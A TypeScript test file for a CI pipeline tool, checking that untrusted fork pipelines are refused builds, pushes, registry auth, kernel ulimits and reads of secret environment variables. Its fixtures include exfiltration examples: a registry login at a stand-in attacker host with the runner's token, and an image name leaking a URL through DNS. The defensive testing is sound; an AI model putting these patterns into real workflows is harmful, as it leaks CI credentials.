import { EFFECT_OF, trustProblems, untrustedWarnings } from '../../src/pipeline/host-access.js'
import { parsePipeline } from '../../src/pipeline/load-pipeline.js'
import type { HostAccessKind } from '../../src/pipeline/pipeline-types.js'
import { PipelineFileError } from '../../src/pipeline/file-problems.js'
import { HOST_EFFECTS } from '../../src/pipeline/threat-model.js'

/** Parses a file, then lists what an untrusted run refuses in it, as `LINE:COL: message`. */
function refused(text: string, allowedVariables: string[] = []): string[] {
  const pipeline = parsePipeline(text, 'p.yml', '/repo')
  return trustProblems(pipeline.hostAccess, pipeline.jobs, {
    untrusted: true,
    workspace: '/repo',
    allowedVariables
  }).map((p) => `${p.line}:${p.col}: ${p.message}`)
}

const job = (withText: string, extra = '') => `jobs:
  a:
    runs-on:
      with:
        ${withText}
    stages: [{name: s, type: sh, run: 'true'${extra}}]
`
const VAR_HINT = (name: string) =>
  `refused for an untrusted pipeline: allow it by name (--allow-var ${name}, or the action's untrusted-variables input) if the workflow means to pass it`
const REFUSED = 'refused for an untrusted pipeline (pull request from a fork)'

describe('what an untrusted file is refused at its line (exit 2 before anything runs)', () => {
  it.each<[string, string, string[], string[]]>([
    // [item of issue 40, the file, variables the workflow allows, what is refused]
    [
      '3 and 7: a build, and the name it would tag',
      job('image: python:3.11-slim\n        build: {context: .}'),
      [],
      [
        `6:16: jobs.a: build: builds an image on the engine; ${REFUSED}: build the image in a trusted workflow (on push) and name it in image:, since a build has no process or memory limit`
      ]
    ],
    [
      '4: a push, and auth: from the file',
      job(
        'image: reg.example/team/x:1\n        build: {context: ., push: true}\n        auth: {username: u, password: "${REG_PASSWORD}"}'
      ),
      ['REG_PASSWORD'],
      [
        `6:16: jobs.a: build: builds an image on the engine; ${REFUSED}: build the image in a trusted workflow (on push) and name it in image:, since a build has no process or memory limit`,
        `6:35: jobs.a: build.push: pushes an image to a registry; ${REFUSED}: push from a trusted workflow`,
        `7:15: jobs.a: auth: hands registry credentials to the engine; ${REFUSED}: pull private images in a trusted step before the run (docker pull) and keep pull: missing`
      ]
    ],
    [
      "5: the runner's token through auth:, not allowed",
      job(
        'image: reg.attacker.example/x\n        auth: {username: u, password: "${ACTIONS_RUNTIME_TOKEN}"}'
      ),
      [],
      [
        `6:15: jobs.a: auth: hands registry credentials to the engine; ${REFUSED}: pull private images in a trusted step before the run (docker pull) and keep pull: missing`,
        `6:39: jobs.a.runs-on.with.auth.password: \${ACTIONS_RUNTIME_TOKEN} reads the run's environment; ${VAR_HINT('ACTIONS_RUNTIME_TOKEN')}`
      ]
    ],
    [
      '5: a variable in an image name (it would leave through DNS)',
      job('image: "${ACTIONS_RESULTS_URL}.attacker.example/x"'),
      [],
      [
        `5:16: jobs.a.runs-on.with.image: \${ACTIONS_RESULTS_URL} reads the run's environment; ${VAR_HINT('ACTIONS_RESULTS_URL')}`
      ]
    ],
    [
      "5: a stage's env and a service, each at its line; an allowed one passes",
      `jobs:
  a:
    runs-on: {with: {image: img, environment: {D: "\${DATASET}"}}}
    services:
      db: {image: img, env: {P: "\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}"}}
    stages: [{name: s, type: sh, run: 'true', env: {T: "\${GITHUB_TOKEN}"}}]
`,
      ['DATASET'],
      [
        `5:33: jobs.a.services.db.env.P: \${ACTIONS_ID_TOKEN_REQUEST_TOKEN} reads the run's environment; ${VAR_HINT('ACTIONS_ID_TOKEN_REQUEST_TOKEN')}`,
        `6:56: jobs.a.stages[0].env.T: \${GITHUB_TOKEN} reads the run's environment; ${VAR_HINT('GITHUB_TOKEN')}`
      ]
    ],
    [
      '5: `$${` is text, not a variable',
      job('image: img\n        environment: {LITERAL: "$${HOME}"}'),
      [],
      []
    ],
    [
      '18: ulimits that change the kernel',
      job(
        'image: img\n        ulimits: {nofile: 1024, nproc: 64, memlock: -1, rtprio: 99, core: -1}'
      ),
      [],
      [
        `6:53: jobs.a: ulimits.memlock changes a limit of the kernel's; ${REFUSED}`,
        `6:65: jobs.a: ulimits.rtprio changes a limit of the kernel's; ${REFUSED}`,
        `6:75: jobs.a: ulimits.core changes a limit of the kernel's; ${REFUSED}`
      ]
    ]
  ])('item %s', (_item, text, allowed, expected) => {
    expect(refused(text, allowed)).toEqual(expected)
  })

  it('8: allow_workflow_commands in the file is not refused but ignored, with a warning at its line', () => {
    const pipeline = parsePipeline(
      `allow_workflow_commands: true\n${job('image: img')}`,
      'p.yml',
      '/repo'
    )
    expect(
      trustProblems(pipeline.hostAccess, pipeline.jobs, { untrusted: true, workspace: '/repo' })
    ).toEqual([])
    expect(untrustedWarnings(pipeline.hostAccess)).toEqual([
      {
        file: 'p.yml',
        line: 1,
        col: 26,
        message:
          "allow_workflow_commands: true; ignored for an untrusted pipeline: only the workflow can allow workflow commands (the action's allow-workflow-commands input)"
      }
    ])
  })

  it('trusted, the same file reads every variable and may build and push', () => {
    const pipeline = parsePipeline(
      job(
        'image: "reg.example/${TEAM}/x:1"\n        build: {context: ., push: true}\n        ulimits: {memlock: -1}'
      ),
      'p.yml',
      '/repo'
    )
    expect(
      trustProblems(pipeline.hostAccess, pipeline.jobs, { untrusted: false, workspace: '/repo' })
    ).toEqual([])
  })
})

describe('what validate refuses in every mode', () => {
  const problems = (text: string) => {
    try {
      parsePipeline(text, 'p.yml', '/repo')
      return []
    } catch (error) {
      return (error as PipelineFileError).problems.map((p) => `${p.line}:${p.col}: ${p.message}`)
    }
  }

  it.each<[string, string, string[]]>([
    [
      '22: an image name with a space',
      job('image: "python 3.11"'),
      [
        "5:16: jobs.a.runs-on.with.image 'python 3.11' holds white space, which no image reference has"
      ]
    ],
    [
      '22: an image name in capitals',
      job('image: Python:3.11'),
      [
        "5:16: jobs.a.runs-on.with.image 'Python:3.11' is not an image reference ([HOST[:PORT]/]name[:tag][@digest], the name in lower case)"
      ]
    ],
    [
      "22: a service's image",
      `jobs:
  a:
    runs-on: {with: {image: img}}
    services: {db: {image: "pg 16"}}
    stages: [{name: s, type: sh, run: 'true'}]
`,
      ["4:28: jobs.a.services.db.image 'pg 16' holds white space, which no image reference has"]
    ],
    [
      '22: a templated image is checked once rendered',
      job('image: "{{ params.x }} y"').replace(
        'jobs:',
        'params: {x: {type: str, default: a}}\njobs:'
      ),
      []
    ],
    [
      '17: params.constructor is not a declared param',
      job('image: img', ", env: {C: '{{ params.constructor }}'}"),
      [
        "6:57: jobs.a.stages[0].env.C: '{{ params.constructor }}': no param 'constructor' is declared"
      ]
    ]
  ])('item %s', (_item, text, expected) => {
    expect(problems(text)).toEqual(expected)
  })

  it.each([
    'img',
    'ctr-fixtures/busybox:latest',
    'localhost:5000/team/tool:1.0',
    'registry.example.com/a/b/c:v1.2-rc_3',
    `alpine@sha256:${'a'.repeat(64)}`,
    'my__image.x-y'
  ])('22: accepts the image reference %s', (image) => {
    expect(problems(job(`image: "${image}"`))).toEqual([])
  })
})

describe('the threat model', () => {
  it('places every kind of host access a file can show in a row of the docs table', () => {
    const ids = new Set<string>(HOST_EFFECTS.map((row) => row.id))
    const kinds = Object.keys(EFFECT_OF) as HostAccessKind[]
    expect(kinds.filter((kind) => !ids.has(EFFECT_OF[kind]))).toEqual([])
  })
})

describe("a ddeutil workflow's scripts read ${VAR} too: the allow-list holds there", () => {
  const ddeutil = `type: Workflow
jobs:
  a:
    runs-on: {type: container, with: {image: alpine}}
    stages:
      - {name: s, bash: 'echo \${GITHUB_TOKEN} $$HOME'}
      - {name: t, echo: '\${DATASET}'}
`
  it('refuses each variable a script reads, at its script, unless the workflow allows it', () => {
    expect(refused(ddeutil, ['DATASET'])).toEqual([
      `6:25: jobs.a.stages[0].run: \${GITHUB_TOKEN} reads the run's environment; ${VAR_HINT('GITHUB_TOKEN')}`
    ])
  })

  it('holds in its if: and vars, which it renders the same way', () => {
    const guarded = `type: Workflow
jobs:
  a:
    if: "'\${RUNNER_TOKEN}' != ''"
    runs-on: {type: container, with: {image: alpine}}
    stages: [{name: s, run: 'print(x)', vars: {x: '\${PASSWORD}'}}]
`
    expect(refused(guarded)).toEqual([
      `4:9: jobs.a.if: \${RUNNER_TOKEN} reads the run's environment; ${VAR_HINT('RUNNER_TOKEN')}`,
      `6:51: jobs.a.stages[0].vars.x: \${PASSWORD} reads the run's environment; ${VAR_HINT('PASSWORD')}`
    ])
  })

  it('leaves a page-form script its shell variables', () => {
    expect(
      refused(ddeutil.replace('type: Workflow\n', '').replace("bash: '", "type: bash, run: '"))
    ).toEqual([])
  })
})

describe("ddeutil's remove: false in an untrusted file", () => {
  it('is refused at its line: an untrusted run leaves nothing on the engine', () => {
    expect(refused(job('image: alpine\n        remove: false'))).toEqual([
      "6:17: jobs.a: remove: false leaves its container and the run's volumes on the engine after the run; refused for an untrusted pipeline (pull request from a fork): an untrusted run leaves nothing on the engine; keep a run to look into from a trusted one (run --keep)"
    ])
  })

  it('is not a problem in a trusted run', () => {
    const pipeline = parsePipeline(job('image: alpine\n        remove: false'), 'p.yml', '/repo')
    expect(
      trustProblems(pipeline.hostAccess, pipeline.jobs, { untrusted: false, workspace: '/repo' })
    ).toEqual([])
  })
})
